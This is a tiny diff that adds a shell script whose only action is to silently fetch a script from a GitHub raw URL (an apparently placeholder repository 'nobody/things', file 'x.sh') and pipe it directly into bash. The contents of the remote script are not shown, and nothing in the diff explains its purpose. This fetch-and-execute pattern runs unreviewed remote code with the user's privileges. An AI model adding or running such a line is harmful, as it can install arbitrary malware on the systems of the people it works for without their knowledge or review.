@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -s https://raw.githubusercontent.com/nobody/things/main/x.sh | bash
